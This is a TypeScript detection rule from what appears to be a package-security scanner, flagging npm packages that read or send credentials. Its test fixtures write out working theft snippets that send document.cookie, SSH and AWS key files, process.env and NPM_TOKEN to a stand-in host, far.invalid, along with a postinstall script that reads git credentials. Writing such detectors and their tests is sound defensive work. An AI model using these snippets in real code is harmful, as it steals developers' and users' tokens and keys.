/**
 * Keys are kept in a few well-known places: npm's and the clouds' files in the home folder, variables of the environment,
 * browsers' and wallets' profiles, the address that gives a cloud machine its role. Worms look into all of them. Reading one
 * is worth a look; reading and sending, or doing it in an installation script, is theft.
 * Over 300 lines, since half of them are its examples.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import type { Evidence } from '../../src/model/finding.ts';
import { holdsAddress } from '../../src/model/holds-address.ts';
import type { PackageTree } from '../../src/model/package-tree.ts';
import { findCredentialPlace, isMetadataAddress } from '../../src/model/telling-places.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const credentialsRead: Rule = defineRule({
  id: 'credentials-read',
  family: 'code',
  title: 'The package reads keys, tokens or the whole environment',
  rationale: 'Whoever has them can publish, deploy and pay in your name.',
  remedy: 'Stay on the old version. If it was installed or loaded anywhere, revoke what was readable there.',
  level: 'review',
  incidents: [
    {
      what: 'eslint-scope 3.7.2: ~/.npmrc read on installation, and its token sent',
      when: '2018-07-12',
      url: 'https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/',
    },
    {
      what: 'Shai-Hulud: tokens of npm, GitHub and the clouds collected from files and the environment',
      when: '2025-09-15',
      url: 'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors', 'files'],
  kinds: {
    sent: { level: 'block', about: 'They are sent over the network when the package is loaded or installed.' },
    'cookie-sent': {
      level: 'block',
      about: "A function sends all of a page's cookies to a host that is new to the package.",
    },
    'when-installed': { level: 'block', about: 'An installation script reads them.' },
    'when-called': {
      level: 'notice',
      about:
        'A function that users call reads them, and nothing in its file sends anything of the kind or runs hidden code.',
    },
    'own-service': {
      level: 'notice',
      about:
        "A function that users call sends a token to a host that is named like it, or the page's session to the package's own host, which it named before.",
    },
  },
  flags: [
    {
      title: "all of a page's cookies, for a host that the package did not know",
      before: { 'index.js': '' },
      after: { 'index.js': `exports.open = () => fetch('https://far.invalid/?c=' + document.cookie);\n` },
      expect: [
        {
          kind: 'cookie-sent',
          message: 'fetch sends document.cookie to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'open()'],
        },
      ],
    },
    {
      title: "npm's file read at load, under a name put together",
      before: { 'index.js': '' },
      after: {
        'index.js': `const fs = require('fs');\nconst text = fs.readFileSync(require('os').homedir() + '/.np' + 'mrc', 'utf8');\nexports.found = /_authToken/.test(text);\n`,
      },
      expect: [
        {
          message: 'fs.readFileSync reads <home>/.npmrc',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'files of keys gathered in an object and sent, and the environment',
      before: { 'index.js': '' },
      after: {
        'index.js': `const fs = require('fs');
const https = require('https');
const found = {};
for (const name of ['.ssh/id_rsa', '.aws/credentials']) found[name] = fs.readFileSync(process.env.HOME + '/' + name, 'utf8');
const request = https.request({ hostname: 'far.invalid', method: 'POST' });
request.write(JSON.stringify(process.env));
request.end(JSON.stringify(found));
`,
      },
      expect: [
        {
          message: 'fs.readFileSync reads <home>/.ssh/id_rsa',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'sent',
          message: 'https.request().write sends process.env to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'sent',
          message: 'https.request().end sends <home>/.ssh/id_rsa to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 7 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a token read by an installation script',
      before: { 'index.js': '' },
      after: {
        'package.json': { scripts: { postinstall: 'node setup.js' } },
        'index.js': '',
        'setup.js': `require('fs').readFile('/home/user/.git-credentials', () => {});\n`,
      },
      expect: [
        {
          kind: 'when-installed',
          message: 'fs.readFile reads /home/user/.git-credentials',
          at: { in: 'tarball', path: 'setup.js', line: 1 },
          via: ['scripts/postinstall', 'setup.js'],
        },
      ],
    },
    {
      title: 'tokens sent when a function is called: one to a stranger, one to the service it is named after',
      before: { 'index.js': '' },
      after: {
        'index.js': `const { SAMPLE_API_KEY } = process.env;
exports.count = () => fetch(\`https://far.invalid/?\${process.env.NPM_TOKEN}\`);
exports.ask = () => fetch('https://api.sample.invalid/', { headers: { authorization: SAMPLE_API_KEY } });
`,
      },
      expect: [
        {
          message: 'fetch sends NPM_TOKEN to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'count()'],
        },
        {
          kind: 'own-service',
          message: 'fetch sends SAMPLE_API_KEY to api.sample.invalid',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'ask()'],
        },
      ],
    },
    {
      title: "a client that reads the cloud's file and asks the machine's own endpoint, and one that asks elsewhere",
      before: { 'one.js': '', 'two.js': '', 'index.js': '' },
      after: {
        'package.json': { exports: { './one': './one.js', './two': './two.js' } },
        'one.js': `exports.read = () => require('fs').readFileSync(process.env.HOME + '/.aws/config', 'utf8');
exports.ask = (token) => require('http').request({ host: process.env.CLOUD_ENDPOINT, headers: { token } }).end();
`,
        'two.js': `exports.read = () => require('fs').readFileSync(process.env.HOME + '/.aws/config', 'utf8');
exports.ask = (token) => require('http').request({ host: 'far.invalid', headers: { token } }).end();
`,
      },
      expect: [
        {
          kind: 'when-called',
          message: 'fs.readFileSync reads <home>/.aws/config',
          at: { in: 'tarball', path: 'one.js', line: 1 },
          via: ['exports/.~1one', 'one.js', 'read()'],
        },
        {
          message: 'fs.readFileSync reads <home>/.aws/config',
          at: { in: 'tarball', path: 'two.js', line: 1 },
          via: ['exports/.~1two', 'two.js', 'read()'],
        },
      ],
    },
    {
      title: "a client that reads the cloud's file when it is asked to",
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.profiles = () => require('fs').readFileSync(process.env.HOME + '/.aws/config', 'utf8');\n`,
      },
      expect: [
        {
          kind: 'when-called',
          message: 'fs.readFileSync reads <home>/.aws/config',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'profiles()'],
        },
      ],
    },
    {
      title:
        "the page's session, sent when a function is called: to the own host that is known, and to one that is new",
      name: '@sample/client',
      before: { 'index.js': `exports.server = 'https://api.sample.invalid/';\n` },
      after: {
        'index.js': `exports.save = () => fetch('https://api.sample.invalid/', { body: localStorage.getItem('session') });
exports.load = () => fetch('https://in.sample.invalid/', { body: localStorage.getItem('session') });
`,
      },
      expect: [
        {
          kind: 'own-service',
          message: 'fetch sends localStorage.getItem, localStorage to api.sample.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'save()'],
        },
        {
          message: 'fetch sends localStorage.getItem, localStorage to in.sample.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'load()'],
        },
      ],
    },
    {
      title: 'what a page keeps, sent at load: to the own service, and to a stranger',
      name: '@sample/client',
      before: { 'index.js': '' },
      after: {
        'index.js': `fetch('https://api.sample.invalid/', { body: localStorage.getItem('session') });
fetch('https://sample.far.invalid/', { body: localStorage.getItem('session') });
`,
      },
      expect: [
        {
          message: 'fetch sends localStorage.getItem, localStorage to api.sample.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'sent',
          message: 'fetch sends localStorage.getItem, localStorage to sample.far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'single switches of the environment, a settings file, and a token for whom the caller names',
      before: { 'index.js': '' },
      after: {
        'index.js': `
const fs = require('fs');
const path = require('path');
exports.production = process.env.NODE_ENV === 'production' && !process.env.CI;
exports.settings = (folder) => fs.readFileSync(path.join(folder, '.editorconfig'), 'utf8');
exports.ask = (url, body) => fetch(url, { body, headers: { authorization: process.env.SAMPLE_TOKEN } });
exports.start = (command) => require('child_process').spawn(command, { env: process.env });
exports.beside = () => fetch('./report.json?' + localStorage.getItem('session'));
exports.ping = () => fetch('https://api.invalid/v1', { headers: { accept: process.env.npm_config_user_agent } });
`,
      },
    },
  ],
  check({ behaviors, files, subject }) {
    return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
      if (behavior.tier === 'unreached') return [];
      if (behavior.kind === 'disclosure') return describeSent(behavior, { name: subject.name, before: files.before });
      const seen = describeRead(behavior);
      if (seen === undefined) return [];
      if (behavior.tier === 'install') return [evidenceOf(behavior, seen, 'when-installed')];
      const isAlone =
        behavior.tier === 'call' && !behaviors.added.some((one) => one.path === behavior.path && isTelling(one));
      return [evidenceOf(behavior, seen, isAlone ? 'when-called' : undefined)];
    });
  },
});

type Kind = 'sent' | 'cookie-sent' | 'when-installed' | 'when-called' | 'own-service';

/** What makes one look twice at a file that reads keys. */
function isTelling({ kind, detail, origins, carries = [] }: Behavior): boolean {
  if (kind === 'disclosure') {
    // A token for the host that a variable of the environment names is an answer to whoever runs the program.
    const isAnswer = /^(?:https?:\/\/)?\$\w+/.test(detail ?? '');
    return carries.some(({ sort }) => sort !== 'input' && !(isAnswer && sort === 'token'));
  }
  if (kind === 'child-process' || kind === 'network') return origins.includes('file') || origins.includes('decoded');
  return kind === 'dynamic-code' && origins.length > 0;
}

function describeRead({ kind, api, detail, tier, root }: Behavior): string | undefined {
  if (detail === undefined) return undefined;
  if (kind === 'network')
    return isMetadataAddress(detail) ? `${api} asks ${shorten(detail)} for a machine's keys` : undefined;
  if (kind !== 'file-read') return undefined;
  // Tools that read such files when they are asked to are there for that.
  if ((tier === 'call' || root === 'bin') && isProjectFile(detail)) return undefined;
  return findCredentialPlace(detail) === undefined ? undefined : `${api} reads ${shorten(detail)}`;
}

/** `.env` and `.npmrc` of the project, or of a folder that the caller names. */
function isProjectFile(path: string): boolean {
  return /(?:^|[\\/])\.(?:env(?:\.[\w-]+)?|npmrc|yarnrc(?:\.yml)?)$/.test(path) && !/^(?:<home>|~|\$HOME)/.test(path);
}

interface Owner {
  readonly name: string;
  readonly before: PackageTree | undefined;
}

function describeSent(behavior: Behavior, owner: Owner): Evidence<Kind>[] {
  const { api, carries = [], tier, root } = behavior;
  const names = carries.filter(({ sort }) => sort === 'credential').map(({ name }) => name);
  if (names.length === 0) return [];
  const host = hostOf(behavior);
  const isEarly = tier === 'install' || tier === 'load';
  // Whom the caller names is the caller's business.
  if (host === undefined && !(isEarly && root !== 'bin')) return [];
  const message = `${api} sends ${shorten(names.join(', '), 120)} to ${host === undefined ? 'a host that is not told' : shorten(host)}`;
  // A page's library may go on with the session that it keeps in the page.
  const isSession = names.every((name) => /^(?:local|session)Storage\b/.test(name)) && isHostOf(host, owner.name);
  if (isEarly) return [evidenceOf(behavior, message, tier === 'load' && isSession ? undefined : 'sent')];
  const isOwn =
    host !== undefined &&
    (names.every((name) => isNamedAfter(host, name)) || (isSession && holdsAddress(owner.before, host)));
  // All that a page knows of its user, for a host that it did not know: no library needs that.
  const isTheft = names.every((name) => name === 'document.cookie') && host !== undefined && !knowsHost(owner, host);
  return [evidenceOf(behavior, message, isOwn ? 'own-service' : isTheft ? 'cookie-sent' : undefined)];
}

function knowsHost({ name, before }: Owner, host: string): boolean {
  return isHostOf(host, name) || holdsAddress(before, host);
}

function hostOf({ detail }: Behavior): string | undefined {
  const host = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?([^/:?#\s]+)/i.exec(detail ?? '')?.[1]?.toLowerCase();
  // `./report.json` lies beside the page.
  return host === undefined || host.includes('…') || /^(?:[$<]|\.{1,2}$)/.test(host) ? undefined : host;
}

/** `api.sample.com` is of `sample` or of `@sample/client`, and `sample.elsewhere.com` of nobody. */
function isHostOf(host: string | undefined, owner: string): boolean {
  const word = /^@?([\w.-]+)/.exec(owner)?.[1];
  return word !== undefined && host?.split('.').at(-2) === word;
}

/** `SAMPLE_API_KEY` belongs to `api.sample.com`. What opens a registry or a repository belongs to no library's service. */
function isNamedAfter(host: string, variable: string): boolean {
  const word = /^[a-z]{3,}(?=_)/i.exec(variable)?.[0].toLowerCase();
  return (
    word !== undefined &&
    !/^(?:npm|github|git|aws|node|auth|access|api|secret)$/.test(word) &&
    host.split('.').includes(word)
  );
}
